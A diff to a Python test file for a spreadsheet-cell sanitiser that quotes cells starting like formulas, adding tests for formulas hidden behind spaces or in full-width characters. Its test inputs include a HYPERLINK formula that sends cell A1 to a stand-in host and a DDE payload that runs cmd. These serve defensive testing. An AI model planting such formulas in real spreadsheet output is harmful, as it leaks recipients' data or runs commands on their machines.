@@ -15,8 +15,17 @@ HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"射")', "+1+cmd|' /C calc'!A0", 
 
 def test_each_formula_start_gets_a_quote_and_nothing_else_changes():
     assert [spreadsheet_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
-    for kept in ["射=侯", "大射之儀", "", " =1", "'=1", "＝1", "http://x/?q=1", 12, -3, None]:
+    for kept in ["射=侯", "大射之儀", "", "'=1", "　大射", "射＝侯", " ", "http://x/?q=1", 12, -3, None]:
         assert spreadsheet_cell(kept) == kept
+
+
+def test_a_formula_behind_spaces_or_in_full_width_forms_gets_a_quote_too():
+    """Found by helper breakit: a formula after leading spaces (a program that trims cells
+    starts it there) or in full-width forms (read as ASCII by a spreadsheet set up for
+    Chinese or Japanese) was written as it was."""
+    hidden = [" =1+1", "  +1", "\u3000=HYPERLINK(\"http://x.example\")", "\n=1", "\u00a0@SUM(1)", "＝1+1",
+              "＋1", "－2+3", "＠SUM(1)", "\u3000＝1+1", "\t＝1"]
+    assert [spreadsheet_cell(v) for v in hidden] == ["'" + v for v in hidden]
 
 
 def _rows(kind, rows):
